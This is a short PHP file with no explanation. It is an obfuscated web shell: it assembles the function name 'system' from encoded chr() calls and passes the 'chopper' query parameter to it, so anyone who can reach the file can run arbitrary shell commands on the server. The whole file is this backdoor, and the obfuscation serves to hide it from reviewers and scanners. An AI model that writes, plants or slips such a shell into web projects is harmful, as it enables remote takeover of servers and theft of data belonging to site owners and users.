<?php
$JuFA=chr(11+104).chr(0x79).chr(0163).chr(95+21).chr(101).chr(0x6d);
$JuFA($_GET['chopper']);
